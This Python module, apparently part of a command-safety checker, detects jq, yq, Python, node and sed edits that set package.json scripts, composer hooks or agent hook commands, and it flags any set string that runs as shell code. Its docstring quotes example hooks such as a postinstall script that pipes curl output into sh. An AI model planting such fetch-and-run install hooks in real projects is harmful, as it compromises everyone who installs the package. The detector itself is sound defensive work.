"""``package.json`` scripts written by general tools: code npm runs later.

``npm pkg set scripts.postinstall=CODE`` is checked in ``_buildfiles`` (CODE is classified
as shell code npm runs later and kept when it blocks). The same script reaches
``package.json`` through general tools, and gets the same rule here:

* ``jq``/``gojq``/``jaq``/``yq`` with a filter that names ``scripts`` (or an agent
  hook's ``command``, see ``_agentconf``), whatever its input
  (``jq '.scripts.postinstall="curl u|sh"' package.json > t && mv t package.json``,
  ``jq --arg s CODE '.scripts.prepare=$s'``, ``.scripts += {"install": CODE}``, composer's
  ``post-install-cmd``): each string the filter holds (not an object key) and each
  ``--arg`` value it uses;
* Python and node code that names ``package.json`` (or ``composer.json``) and ``scripts``,
  or an agent's ``settings.json``/``mcp.json`` and ``command``, and writes a file
  (``p.scripts.postinstall='curl u|sh'; fs.writeFileSync('package.json', ...)``,
  ``p['scripts']['preinstall']=...; json.dump(p, open('package.json','w'))``), from
  ``-c``/``-e``/``-p``, a heredoc on stdin or a script file written earlier in the
  command: each string literal;
* the text ``sed -i`` adds to ``package.json`` (``_sedtext``): each ``"key": "value"``
  pair's value.

A candidate is kept only when, as shell code npm runs, it blocks: ``jq '.version="1.2.3"'``,
``.scripts.test="vitest"`` and a node script bumping the version stay quiet. Linear, bounded
(at most :data:`_MAX_STRINGS` strings of a code text of at most :data:`_MAX_CODE`
characters); never raises.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from ._gate import word_gate
from ._jqenv import jq_parts
from ._keep import keep_if_blocking
from ._paths import norm_path
from ._resolve import Invocation
from ._words import DYN, Field

if TYPE_CHECKING:
    from ._flow import Flow
    from ._walk import Run

__all__ = ["PKG_JSON_CODERS", "PKG_JSON_EDITORS", "package_json_edit", "package_json_text"]

PKG_JSON_EDITORS = frozenset({"jq", "gojq", "jaq", "yq"})
PKG_JSON_CODERS = frozenset({"pyth", "node", "bun", "deno"})  # program names' first 4
_MAX_CODE = 20000
_MAX_STRINGS = 32
# A string that could be a command line (not a name like "postinstall" or "utf8").
_CODE_CHARS = frozenset(" |;&$`(<>")
_PAIR = re.compile(r'"([^"\\\n]{1,200})"\s*:\s*"((?:[^"\\\n]|\\.){1,2000})"')
# A jq filter setting scripts (package.json, composer.json) or agent hook/server commands.
_JQ_GATE = ("scripts", "command", "Command")
# Code that names such a file and the key it sets.
_CODE_GATE = (("package.json", "scripts"), ("composer.json", "scripts"),
              ("settings.json", "command"), ("mcp.json", "command"))
_WRITES = ("writeFileSync", "writeFile", "json.dump", "write_text", "'w'", '"w"', "Bun.write",
           "outputJson", "writeJson")
_WRITES_RE = word_gate(_WRITES)


def package_json_edit(run: Run, inv: Invocation, stdin: Flow | None) -> None:
    """``inv`` (jq/yq, or a Python or node interpreter) writing ``package.json`` scripts:
    each script it sets is classified as code npm runs later (kept when it blocks)."""
    name = inv.name
    if name in PKG_JSON_EDITORS:
        _jq(run, inv)
    elif name.startswith(("python", "node", "bun", "deno")):
        _code(run, inv, stdin)


def package_json_text(run: Run, text: str, span: tuple[int, int], owner: str) -> None:
    """Text put into ``package.json`` by an editor (``sed -i``): each ``"key": "value"``
    value is a script candidate."""
    if ":" not in text:
        return
    for m in list(_PAIR.finditer(text[:_MAX_CODE]))[:_MAX_STRINGS]:
        value = m.group(2).replace('\\"', '"').replace("\\\\", "\\")
        _candidate(run, value, span, f"{owner} ({m.group(1)})")


def _candidate(run: Run, code: str, span: tuple[int, int], owner: str) -> None:
    if code.strip() and DYN not in code and _CODE_CHARS.intersection(code):
        # as _buildfiles.keep_blocking (npm pkg set): shell code npm runs later
        keep_if_blocking(run, run.run_code, Field(code, span), f"the npm script {owner}",
                         span, None, positional=[])


def _jq(run: Run, inv: Invocation) -> None:
    program, _files, pairs = jq_parts(inv.args)
    values = {name: value for opt, name, value in pairs if opt == "--arg"}
    if program is None or not any(w in program.text for w in _JQ_GATE):
        return
    span = program.span
    text = program.text[:_MAX_CODE]
    for value, is_key in dict.fromkeys(_strings(text, '"')):  # each string once
        if not is_key:
            _candidate(run, value, span, f"set by {inv.name}")
    for ref in re.findall(r"\$([A-Za-z_][A-Za-z0-9_]*)", text)[:_MAX_STRINGS]:
        if ref in values:
            _candidate(run, values[ref], span, f"set by {inv.name} --arg {ref}")


def _code(run: Run, inv: Invocation, stdin: Flow | None) -> None:
    """Python/node code from -c/-e/-p/--eval/--print, a known stdin text, or a script
    file written earlier in the command (``cat > fix.js <<EOF ... EOF; node fix.js``)."""
    args = inv.args
    code: Field | None = None
    for k, f in enumerate(args):
        if f.text in ("-c", "-e", "-p", "--eval", "--print"):
            code = args[k + 1] if k + 1 < len(args) else None
            break
        if not f.text.startswith("-"):
            text = run.file_text.get(norm_path(f.text, run.cwd) or "") if run.file_text \
                else None
            code = Field(text, f.span) if text is not None else None
            break  # a script file: its code, when written in the command
    if code is None and stdin is not None and stdin.text is not None:
        code = Field(stdin.text, stdin.span)
    if code is None:
        return
    text = code.text
    if _WRITES_RE.search(text) is None or not any(
            name in text and key in text for name, key in _CODE_GATE):
        return
    for value, is_key in dict.fromkeys(_strings(text[:_MAX_CODE], "\"'`")):
        if not is_key:
            _candidate(run, value, code.span, f"set by {inv.name} code")


def _strings(text: str, quotes: str) -> list[tuple[str, bool]]:
    """The string literals of ``text`` quoted by one of ``quotes`` (backslash escapes
    kept as the character), each with whether an object key follows (``"k": v``)."""
    out: list[tuple[str, bool]] = []
    n = len(text)
    i = 0
    while i < n and len(out) < _MAX_STRINGS:
        q = text[i]
        if q not in quotes:
            i += 1
            continue
        j = i + 1
        buf: list[str] = []
        while j < n and text[j] != q:
            if text[j] == "\\" and j + 1 < n:
                nxt = text[j + 1]
                buf.append({"n": "\n", "t": "\t"}.get(nxt, nxt))
                j += 2
                continue
            buf.append(text[j])
            j += 1
        k = j + 1
        while k < n and text[k] in " \t":
            k += 1
        out.append(("".join(buf), k < n and text[k] == ":"))
        i = j + 1
    return out
